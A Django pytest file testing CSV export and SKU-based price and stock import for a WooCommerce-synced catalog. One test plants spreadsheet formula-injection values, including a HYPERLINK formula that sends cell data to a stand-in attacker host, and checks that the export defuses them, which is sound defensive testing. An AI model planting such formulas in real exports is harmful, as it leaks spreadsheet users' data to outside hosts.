"""Issue 19, the products CSV: the export of the filtered list (streamed, or in the background for
its requester only) and the import of price and stock changes by SKU (preview, confirm, one
batched push), against the WooCommerce sandbox: what the shop received is asserted."""

import csv
import io
import re
from decimal import Decimal
from functools import partial

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import Q

from catalog import imports
from catalog.models import Product
from catalog.models import ProductImport
from catalog.models import ProductVariation
from config.testing import export_csv
from config.testing import finished_background_export
from config.testing import store_url
from stores.models import StoreRole
from stores.models import StoreUser
from sync.models import PushOperation
from sync.tests.conftest import *  # noqa: F403 - the sandbox fixtures (sandbox, shop, pull, fast_sync)

pytestmark = pytest.mark.django_db
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def synced(shop, pull, settings):
    settings.SYNC_FETCH_IMAGES = False
    entities = ["categories", "tags", "brands", "attributes", "products", "variations"]
    assert pull(shop, full=True, entities=entities).status == "success"
    return shop


@pytest.fixture
def store(synced):
    """The root conftest's ``manager`` and ``viewer`` are members of this store: the synced one."""
    return synced


url = partial(store_url, "catalog")


def csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(BOM), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def sandbox_products(sandbox):
    with sandbox.data.lock:
        return {p["id"]: dict(p) for p in sandbox.data.products.values()}


def sandbox_variations(sandbox):
    """Every variation with its product's id as ``parent``."""
    with sandbox.data.lock:
        parents = sandbox.data.variation_parent
        return {v["id"]: {**v, "parent": parents[v["id"]]} for v in sandbox.data.variations.values()}


# --- export ---------------------------------------------------------------------------------------


def test_export_is_the_filtered_sorted_list_with_variations_as_rows(client, synced, sandbox, viewer):
    client.force_login(viewer)
    response = export_csv(client, url("product_export", synced), {"type": "variable", "sort": "-price", "page": "3"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    header = "id,sku,parent_sku,name,type,status,regular_price,sale_price,stock_status,stock_quantity,"
    assert ",".join(rows[0]) == header + "categories,tags,brands,woo_id,permalink"
    remote = sandbox_products(sandbox)
    variable = {woo_id for woo_id, p in remote.items() if p["type"] == "variable" and p["status"] != "trash"}
    products = [row for row in rows if row["type"] != "variation"]
    # The filter of the list, whatever page the list was on: every variable product of the shop.
    assert {int(row["woo_id"]) for row in products} == variable
    assert all(row["type"] == "variable" for row in products)
    # The list's order: the filter bar's sort (price, highest first; empty prices last).
    by_price = csv_rows(export_csv(client, url("product_export", synced), {"type": "simple", "sort": "-price"}))
    prices = [Decimal(row["regular_price"]) for row in by_price if row["regular_price"]]
    assert len(prices) > 10 and prices == sorted(prices, reverse=True)
    assert all(row["regular_price"] for row in by_price[: len(prices)])
    # Each product is followed by its variations, with its SKU as their parent's.
    variations = sandbox_variations(sandbox)
    current = None
    for row in rows:
        if row["type"] != "variation":
            current = row
            continue
        remote_variation = variations[int(row["woo_id"])]
        assert remote_variation["parent"] == int(current["woo_id"])
        assert row["parent_sku"] == current["sku"] and row["sku"] == remote_variation["sku"]
        assert row["regular_price"] == (remote_variation["regular_price"] or "")
    exported = {int(row["woo_id"]) for row in rows if row["type"] == "variation"}
    expected = {v["id"] for v in variations.values() if v["parent"] in variable and v["status"] != "trash"}
    assert exported == expected


def test_export_cells_are_safe_in_a_spreadsheet_and_hebrew_survives(client, synced, viewer):
    product = Product.objects.filter(store=synced, type="simple").exclude(status="trash").order_by("woo_id").first()
    Product.objects.filter(pk=product.pk).update(
        name='=HYPERLINK("https://evil.example/?x="&A1,"click")',
        sku="@SUM(1+1)",
        categories=[{"id": 1, "name": "-2+3", "slug": "x"}, {"id": 2, "name": "חולצות", "slug": "y"}],
    )
    other = Product.objects.filter(store=synced, type="simple").exclude(pk=product.pk).exclude(status="trash").first()
    Product.objects.filter(pk=other.pk).update(name="חולצה כחולה\tXL", stock_quantity=-3)
    client.force_login(viewer)
    rows = {row["id"]: row for row in csv_rows(export_csv(client, url("product_export", synced)))}
    evil = rows[str(product.pk)]
    assert evil["name"] == "'" + '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    assert evil["sku"] == "'@SUM(1+1)"
    assert evil["categories"] == "'-2+3, חולצות"
    hebrew = rows[str(other.pk)]
    assert hebrew["name"] == "חולצה כחולה\tXL"  # a tab inside a cell is not at its start
    assert hebrew["stock_quantity"] == "-3"  # numbers stay numbers


def test_a_large_export_runs_in_the_background_for_its_requester_only(
    client, synced, viewer, manager, settings, tmp_path, django_capture_on_commit_callbacks, eager_tasks
):
    settings.PRODUCT_EXPORT_STREAM_LIMIT = 10
    settings.EXPORTS_DIR = str(tmp_path / "exports")
    client.force_login(viewer)
    progress_url, export_id = finished_background_export(
        client, url("product_export", synced), {"stock_status": "instock"}, django_capture_on_commit_callbacks
    )
    poll = client.get(progress_url, headers={"HX-Request": "true"}).content.decode()
    assert poll.lstrip().startswith("<section") and "export-download" in poll
    download = client.get(url("product_export_download", synced, product_export_id=export_id))
    rows = csv_rows(download)
    instock = Product.objects.filter(store=synced, stock_status="instock").exclude(status="trash")
    products = [row for row in rows if row["type"] != "variation"]
    assert {row["id"] for row in products} == {str(pk) for pk in instock.values_list("pk", flat=True)}
    variations = ProductVariation.objects.filter(product__in=instock)
    assert len(rows) - len(products) == variations.count()
    # Someone else's export does not exist for them, not even for a manager of the store.
    client.force_login(manager)
    assert client.get(progress_url).status_code == 404
    assert client.get(url("product_export_download", synced, product_export_id=export_id)).status_code == 404


# --- import ---------------------------------------------------------------------------------------


def upload(client, store, text, name="prices.csv"):
    data = text if isinstance(text, bytes) else text.encode()
    return client.post(url("product_import", store), {"file": SimpleUploadedFile(name, data, "text/csv")})


def confirm(client, preview_url):
    page = client.get(preview_url).content.decode()
    token = re.search(r'name="token" value="([^"]+)"', page).group(1)
    return client.post(preview_url, {"token": token})


def targets(store):
    simple = list(
        Product.objects.filter(store=store, type="simple", woo_id__isnull=False, sku__isnull=False)
        .exclude(status="trash")
        .exclude(sku="")
        .order_by("woo_id")[:3]
    )
    variations = list(
        ProductVariation.objects.filter(store=store, woo_id__isnull=False, sku__isnull=False)
        .exclude(sku="")
        .exclude(product__status="trash")
        .order_by("product__woo_id", "woo_id")[:2]
    )
    return simple, variations


def test_import_previews_then_pushes_prices_and_stock_by_sku_in_batches(
    client, synced, sandbox, manager, django_capture_on_commit_callbacks, eager_tasks
):
    (first, second, same), (var_a, var_b) = targets(synced)
    Product.objects.filter(pk=first.pk).update(sale_price=None)
    Product.objects.filter(pk=second.pk).update(stock_quantity=5)
    lines = [
        "sku,name,regular_price,sale_price,stock_quantity",
        f"{first.sku},ignored name,1234.50,999.00,17",
        f"{second.sku},,,,0",
        f"{same.sku},,{same.price or ''},,",
        f"{var_a.sku},,88.00,77.25,",
        f"{var_b.sku},,,,42",
    ]
    client.force_login(manager)
    response = upload(client, synced, "\n".join(lines) + "\n")
    assert response.status_code == 302, response.content.decode()[:3000]
    preview_url = response["Location"]
    page = client.get(preview_url).content.decode()
    assert "4 rows change" in page and "1 row is already as in the file" in page
    assert "1234.50" in page and "17" in page and "77.25" in page
    before = sandbox_products(sandbox)
    assert before[first.woo_id]["regular_price"] != "1234.50"  # nothing is sent before the confirmation
    sandbox.reset_stats()
    with django_capture_on_commit_callbacks(execute=True):
        response = confirm(client, preview_url)
    assert response.status_code == 302 and response["Location"] == preview_url
    ops = PushOperation.objects.filter(store=synced)
    assert ops.exists()
    assert all(op.status == "done" for op in ops), [(op.status, op.last_error) for op in ops]
    remote = sandbox_products(sandbox)
    assert (remote[first.woo_id]["regular_price"], remote[first.woo_id]["sale_price"]) == ("1234.50", "999.00")
    assert (remote[first.woo_id]["stock_quantity"], remote[first.woo_id]["manage_stock"]) == (17, True)
    assert remote[second.woo_id]["stock_quantity"] == 0 and remote[second.woo_id]["stock_status"] == "outofstock"
    variations = sandbox_variations(sandbox)
    assert (variations[var_a.woo_id]["regular_price"], variations[var_a.woo_id]["sale_price"]) == ("88.00", "77.25")
    assert variations[var_b.woo_id]["stock_quantity"] == 42
    routes = sandbox.stats()["by_route"]
    assert sum(n for route, n in routes.items() if route.endswith("products/batch")) == 1
    variation_batches = sum(n for route, n in routes.items() if route.endswith("variations/batch"))
    assert variation_batches == len({var_a.product_id, var_b.product_id})
    assert not any(route.startswith("PUT products/") for route in routes)  # no product-by-product pushes
    progress = client.get(preview_url).content.decode()
    assert "WooCommerce accepted the change." in progress and 'aria-valuenow="100"' in progress
    # A second confirmation (a double click) changes nothing more.
    assert client.post(preview_url, {"token": "x"}).status_code == 302
    assert PushOperation.objects.filter(store=synced).count() == 2 + len({var_a.product_id, var_b.product_id})


def test_a_catalog_changed_since_the_preview_is_said_and_nothing_is_saved(client, synced, sandbox, manager):
    (first, _second, _same), _variations = targets(synced)
    client.force_login(manager)
    response = upload(client, synced, f"sku,regular_price\n{first.sku},555.00\n")
    preview_url = response["Location"]
    page = client.get(preview_url).content.decode()
    token = re.search(r'name="token" value="([^"]+)"', page).group(1)
    # Meanwhile a pull (or a colleague) changes the product's price.
    Product.objects.filter(pk=first.pk).update(price=Decimal("321.00"), sale_price=None)
    response = client.post(preview_url, {"token": token})
    assert response.status_code == 409
    text = response.content.decode()
    assert "The catalog changed since this preview: nothing was saved." in text and "321.00" in text
    assert not PushOperation.objects.filter(store=synced).exists()
    assert Product.objects.get(pk=first.pk).price == Decimal("321.00")
    assert sandbox_products(sandbox)[first.woo_id]["regular_price"] != "555.00"
    # A forged or foreign token is refused, never a 500.
    assert client.post(preview_url, {"token": "forged"}).status_code == 302
    assert not PushOperation.objects.filter(store=synced).exists()


BAD_FILES = {
    "unknown sku": ("sku,regular_price\nNO-SUCH,10\n", "no product or variation of this store has the SKU NO-SUCH"),
    "decimal comma": ("sku,regular_price\n{sku},12,50\n", "Line 2 has more cells than the header"),
    "not a price": ("sku,regular_price\n{sku},twelve\n", "“twelve” is not a price"),
    "negative price": ("sku,regular_price\n{sku},-3\n", "“-3” is not a price"),
    "three decimals": ("sku,regular_price\n{sku},1.005\n", "“1.005” is not a price"),
    "not a quantity": ("sku,stock_quantity\n{sku},2.5\n", "“2.5” is not a stock quantity"),
    "stock status": ("sku,stock_status\n{sku},plenty\n", "the stock status must be one of"),
    "sale above regular": ("sku,regular_price,sale_price\n{sku},10,12\n", "must be lower than the regular price"),
    "duplicate sku": ("sku,regular_price\n{sku},10\n{sku},11\n", "is already on line 2"),
    "no sku column": ("name,regular_price\nMug,10\n", "needs a “sku” column"),
    "unknown column": ("sku,price\n{sku},10\n", "Unknown columns: price"),
    "duplicate column": ("sku,sku,regular_price\n{sku},{sku},10\n", "These columns appear twice: sku"),
    "only a header": ("sku,regular_price\n", "The file has no rows under its header."),
    "empty": ("", "The file is empty."),
    "variable price": ("sku,regular_price\n{variable},10\n", "is a variable product: set prices on its variations"),
}


@pytest.mark.parametrize("case", sorted(BAD_FILES))
def test_a_bad_file_gets_a_clear_message_and_changes_nothing(client, synced, manager, case):
    (first, _second, _same), _variations = targets(synced)
    variable = Product.objects.filter(store=synced, type="variable").exclude(sku="").exclude(sku=None).first()
    text, message = BAD_FILES[case]
    client.force_login(manager)
    response = upload(client, synced, text.format(sku=first.sku, variable=variable.sku))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not ProductImport.objects.exists() and not PushOperation.objects.exists()


@pytest.mark.parametrize(
    "case,data,name,message",
    [
        ("png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), "prices.csv", "This is not a CSV file"),
        ("excel hebrew", "sku,regular_price\nחולצה,10\n".encode("cp1255"), "prices.csv", "is not UTF-8 text"),
        ("xlsx", b"PK\x03\x04" + bytes(100), "prices.xlsx", "This is not a CSV file"),
    ],
)
def test_a_file_that_is_not_a_csv_gets_a_clear_message(client, synced, manager, case, data, name, message):
    client.force_login(manager)
    response = upload(client, synced, data, name=name)
    assert response.status_code == 400 and message in response.content.decode()


def test_a_huge_file_is_refused_before_it_is_read(client, synced, manager, monkeypatch):
    monkeypatch.setattr(imports, "MAX_BYTES", 1000)
    client.force_login(manager)
    response = upload(client, synced, "sku,regular_price\n" + "SD-1,10\n" * 200)
    assert response.status_code == 400 and "The file is too large" in response.content.decode()
    monkeypatch.setattr(imports, "MAX_ROWS", 3)
    monkeypatch.setattr(imports, "MAX_BYTES", 10**6)
    response = upload(client, synced, "sku,regular_price\n" + "SD-1,10\n" * 5)
    assert response.status_code == 400 and "more than 3 rows" in response.content.decode()


def test_the_export_comes_back_through_the_import_and_only_managers_import(client, synced, manager, viewer, make_user):
    client.force_login(viewer)
    exported = b"".join(export_csv(client, url("product_export", synced), {"type": "simple"}).streaming_content)
    assert client.get(url("product_import", synced)).status_code == 403
    assert upload(client, synced, exported).status_code == 403
    client.force_login(manager)
    response = upload(client, synced, exported)
    assert response.status_code == 302, response.content.decode()[:3000]
    page = client.get(response["Location"]).content.decode()
    assert "0 rows change" in page and "Nothing to change" in page
    no_sku = Q(sku="") | Q(sku__isnull=True)
    without_sku = Product.objects.filter(no_sku, store=synced, type="simple").exclude(status="trash").count()
    assert without_sku and f"{without_sku} rows without a SKU were left out" in page
    # The preview is its uploader's: another manager gets a 404.
    other = make_user(email="second.manager@example.com")
    StoreUser.objects.create(store=synced, user=other, role=StoreRole.MANAGER)
    client.force_login(other)
    assert client.get(response["Location"]).status_code == 404
